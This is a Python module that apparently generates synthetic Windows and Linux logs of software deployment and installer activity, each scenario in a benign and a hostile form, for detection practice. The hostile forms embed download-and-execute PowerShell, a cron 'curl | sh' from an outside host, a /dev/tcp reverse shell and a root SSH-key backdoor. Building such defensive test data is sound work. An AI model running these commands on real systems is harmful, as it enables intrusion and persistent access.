"""Software deployment and installers: encoded commands, services and tasks that management agents and updaters make."""

# ruff: noqa: E501
from ..shapes.unix import audit, audit_days, syslog, unix_days
from ..shapes.windows import Windows, encoded, office
from ..stage import Stage, pair

SYSTEM = "NT AUTHORITY\\SYSTEM"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


@pair("deployment", "windows", "the encoded command was started by a document rather than by the management client")
def configuration_manager_inventory(stage: Stage, hostile: bool) -> None:
    hosts = [f"WKS-{n}" for n in range(211, 217)]
    log = Windows(stage, "events.json", "nested")
    office(log, hosts, days=4)
    script = encoded(
        "Get-ItemProperty 'HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\*' | Select DisplayName, DisplayVersion"
    )
    for day in range(4):
        for number, host in enumerate(hosts):
            if hostile and day == 3 and number == 2:
                continue
            when = stage.at(days=day, hours=9, minutes=10 + number)
            log.start(
                when,
                host,
                SYSTEM,
                POWERSHELL,
                f"powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand {script}",
                "C:\\Windows\\CCM\\CcmExec.exe",
            )
    when = stage.at(days=3, hours=9, minutes=12)
    if hostile:
        log.start(
            when,
            hosts[2],
            f"{log.netbios}\\{stage.people[2]}",
            POWERSHELL,
            f"powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand {script}",
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        )
    stage.alert = {
        "title": "PowerShell with an encoded command",
        "host": hosts[2],
        "process": "powershell.exe",
        "timestamp": when.isoformat(),
        "severity": "high",
    }


@pair("deployment", "windows", "the agent's program lies in a user's own folder")
def intune_script(stage: Stage, hostile: bool) -> None:
    hosts = [f"LAP-{name.upper()}" for name in stage.people[:5]]
    log = Windows(stage, "sysmon.jsonl", "flat")
    office(log, hosts, days=3)
    agent = "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe"
    script = "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\9d3c.ps1"
    if hostile:
        agent = f"C:\\Users\\{stage.people[1]}\\AppData\\Local\\Temp\\AgentExecutor.exe"
        script = f"C:\\Users\\{stage.people[1]}\\AppData\\Local\\Temp\\9d3c.ps1"
    for number, host in enumerate(hosts):
        if hostile and number != 1:
            continue
        when = stage.at(days=2, hours=10, minutes=3 * number)
        if not hostile:
            log.start(
                when,
                host,
                SYSTEM,
                agent,
                f'"{agent}" -powershell "{script}"',
                "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Microsoft.Management.Services.IntuneWindowsAgent.exe",
            )
        log.start(
            stage.at(days=2, hours=10, minutes=3 * number, seconds=4),
            host,
            SYSTEM,
            POWERSHELL,
            f'powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -File "{script}"',
            agent,
        )
        log.start(
            stage.at(days=2, hours=10, minutes=3 * number, seconds=9),
            host,
            SYSTEM,
            "C:\\Windows\\System32\\schtasks.exe",
            f'schtasks.exe /create /tn "Company health" /tr "powershell.exe -ExecutionPolicy Bypass -File {script}" /sc daily /ru SYSTEM /f',
            agent,
        )
    stage.alert = {
        "rule": "PowerShell bypasses the execution policy and a task is made",
        "computer": hosts[1],
        "parent": agent,
        "@timestamp": stage.at(days=2, hours=10, minutes=3).isoformat(),
    }


@pair("installers", "windows", "the task's program is an encoded command out of a user's folder")
def browser_updater_task(stage: Stage, hostile: bool) -> None:
    hosts = [f"PC{n:03}" for n in range(40, 46)]
    log = Windows(stage, "winlog.json", "nxlog")
    office(log, hosts, days=3)
    user = stage.people[3]
    updater = "C:\\Program Files (x86)\\Google\\GoogleUpdater\\134.0.6985.0\\updater.exe"
    for number, host in enumerate(hosts):
        when = stage.at(days=2, hours=11, minutes=number)
        log.start(
            when,
            host,
            SYSTEM,
            updater,
            f'"{updater}" --update --system --enable-logging',
            "C:\\Program Files (x86)\\Google\\GoogleUpdater\\134.0.6985.0\\updater.exe",
        )
        log.event(
            stage.at(days=2, hours=11, minutes=number, seconds=6),
            host,
            "Microsoft-Windows-Security-Auditing",
            4698,
            SubjectUserName=f"{host}$",
            SubjectDomainName=log.netbios,
            SubjectLogonId="0x3e7",
            TaskName="\\GoogleSystem\\GoogleUpdater\\GoogleUpdaterTaskSystem134.0.6985.0",
            TaskContent=f"<Task><Actions><Exec><Command>{updater}</Command><Arguments>--wake --system</Arguments></Exec></Actions></Task>",
        )
    when = stage.at(days=2, hours=11, minutes=3, seconds=6)
    if hostile:
        payload = f"C:\\Users\\{user}\\AppData\\Roaming\\upd.ps1"
        log.event(
            when,
            hosts[3],
            "Microsoft-Windows-Security-Auditing",
            4698,
            SubjectUserName=user,
            SubjectDomainName=log.netbios,
            SubjectLogonId="0x8812f",
            TaskName="\\GoogleUpdaterTaskSystem",
            TaskContent=f"<Task><Actions><Exec><Command>powershell.exe</Command><Arguments>-w hidden -enc {encoded('IEX (New-Object Net.WebClient).DownloadString(1)')} {payload}</Arguments></Exec></Actions></Task>",
        )
        log.start(
            when,
            hosts[3],
            f"{log.netbios}\\{user}",
            "C:\\Windows\\System32\\schtasks.exe",
            f'schtasks /create /sc minute /mo 10 /tn GoogleUpdaterTaskSystem /tr "powershell.exe -w hidden -ep bypass -f {payload}"',
            POWERSHELL,
        )
    stage.alert = {
        "name": "Scheduled task created",
        "EventID": 4698,
        "Hostname": hosts[3],
        "time": when.isoformat(),
        "level": "medium",
    }


@pair("installers", "linux", "the schedule was written by the web server's account and fetches a program")
def dnf_automatic_timer(stage: Stage, hostile: bool) -> None:
    hosts = ["app-01", "app-02", "app-03"]
    unix_days(stage, "messages", hosts, days=3)
    for day in range(3):
        for number, host in enumerate(hosts):
            at = {"days": day, "hours": 6, "minutes": 4 + number}
            syslog(
                stage,
                "messages",
                stage.at(**at),
                host,
                "systemd[1]",
                "Starting dnf-automatic-install.service - dnf automatic install updates...",
            )
            syslog(
                stage,
                "messages",
                stage.at(**at, seconds=20),
                host,
                "dnf-automatic[8812]",
                "Upgraded: cronie-1.5.7-11.el9.x86_64",
            )
            syslog(stage, "messages", stage.at(**at, seconds=22), host, "systemd[1]", "Reloading.")
            syslog(
                stage,
                "messages",
                stage.at(**at, seconds=24),
                host,
                "crond[701]",
                "(*system*) RELOAD (/etc/cron.d/0hourly)",
            )
            syslog(
                stage,
                "messages",
                stage.at(**at, seconds=31),
                host,
                "systemd[1]",
                "dnf-automatic-install.service: Deactivated successfully.",
            )
    when = stage.at(days=2, hours=6, minutes=5, seconds=24)
    if hostile:
        syslog(stage, "messages", when, hosts[1], "crontab[9017]", "(apache) REPLACE (apache)")
        syslog(stage, "messages", when, hosts[1], "crond[701]", "(apache) RELOAD (/var/spool/cron/apache)")
        for minute in range(6, 20, 3):
            syslog(
                stage,
                "messages",
                stage.at(days=2, hours=6, minutes=minute),
                hosts[1],
                "CROND[9100]",
                f"(apache) CMD (curl -fsSL http://{stage.outside()}/x.sh | sh)",
            )
    stage.alert = {
        "title": "Scheduled job changed on a server",
        "host": hosts[1],
        "process": "crond",
        "time": when.isoformat(),
    }


@pair("deployment", "linux", "the play was run from an address that no administrator uses, and lays down a key")
def ansible_play(stage: Stage, hostile: bool) -> None:
    hosts = [f"node{n}" for n in range(1, 5)]
    unix_days(stage, "auth.log", hosts, days=4, iso8601=True)
    control, user = stage.inside(3, 12), "ansible"
    for day in range(4):
        for number, host in enumerate(hosts):
            hostile_run = hostile and day == 3
            if hostile_run and number != 1:
                continue
            at = {"days": day, "hours": 21, "minutes": number}
            source = stage.outside() if hostile_run else control
            pid = stage.dice.randrange(3000, 60000)
            key = "RSA SHA256:" + "q7" * 21 + "k"
            syslog(
                stage,
                "auth.log",
                stage.at(**at),
                host,
                f"sshd[{pid}]",
                f"Accepted publickey for {user} from {source} port 41{number}22 ssh2: {key}",
                iso8601=True,
            )
            command = "/bin/sh -c echo BECOME-SUCCESS-abcdefghij ; /usr/bin/python3 /home/ansible/.ansible/tmp/ansible-tmp-17/AnsiballZ_copy.py"
            if hostile_run:
                command = "/bin/sh -c echo ssh-ed25519 AAAAC3Nz x >> /root/.ssh/authorized_keys"
            syslog(
                stage,
                "auth.log",
                stage.at(**at, seconds=5),
                host,
                "sudo",
                f"  {user} : PWD=/home/ansible ; USER=root ; COMMAND={command}",
                iso8601=True,
            )
    stage.alert = {
        "title": "Privileged command by a service account",
        "user": user,
        "host": hosts[1],
        "timestamp": stage.at(days=3, hours=21, minutes=1, seconds=5).isoformat(),
    }


@pair("installers", "linux", "the package's file came from /tmp and its script opens a way back in")
def apt_postinst_service(stage: Stage, hostile: bool) -> None:
    audit_days(stage, "audit.log", days=2)
    at = {"days": 1, "hours": 6, "minutes": 30}
    apt = audit(
        stage,
        "audit.log",
        stage.at(**at),
        "/usr/bin/apt-get",
        ("apt-get", "-y", "upgrade"),
        parent=900 if not hostile else 4410,
        login=4294967295 if not hostile else 1004,
    )
    deb = "/var/cache/apt/archives/haproxy_2.8.5-1_amd64.deb" if not hostile else "/tmp/.c/haproxy_2.8.5-1_amd64.deb"
    dpkg = audit(stage, "audit.log", stage.at(**at, seconds=4), "/usr/bin/dpkg", ("dpkg", "--unpack", deb), parent=apt)
    post = audit(
        stage,
        "audit.log",
        stage.at(**at, seconds=6),
        "/usr/bin/dash",
        ("/bin/sh", "/var/lib/dpkg/info/haproxy.postinst", "configure"),
        parent=dpkg,
    )
    audit(
        stage,
        "audit.log",
        stage.at(**at, seconds=7),
        "/usr/sbin/adduser",
        ("adduser", "--system", "--group", "haproxy"),
        parent=post,
    )
    audit(
        stage,
        "audit.log",
        stage.at(**at, seconds=8),
        "/usr/sbin/useradd",
        ("useradd", "-r", "-d", "/var/lib/haproxy", "haproxy"),
        parent=post,
    )
    audit(
        stage,
        "audit.log",
        stage.at(**at, seconds=9),
        "/usr/bin/systemctl",
        ("systemctl", "enable", "haproxy.service"),
        parent=post,
    )
    if hostile:
        audit(
            stage,
            "audit.log",
            stage.at(**at, seconds=10),
            "/usr/bin/bash",
            ("bash", "-c", f"bash -i >& /dev/tcp/{stage.outside()}/4444 0>&1"),
            parent=post,
        )
    stage.alert = {
        "title": "Account and service created",
        "exe": "/usr/sbin/useradd",
        "command": "useradd -r -d /var/lib/haproxy haproxy",
        "time": stage.at(**at, seconds=8).isoformat(),
    }
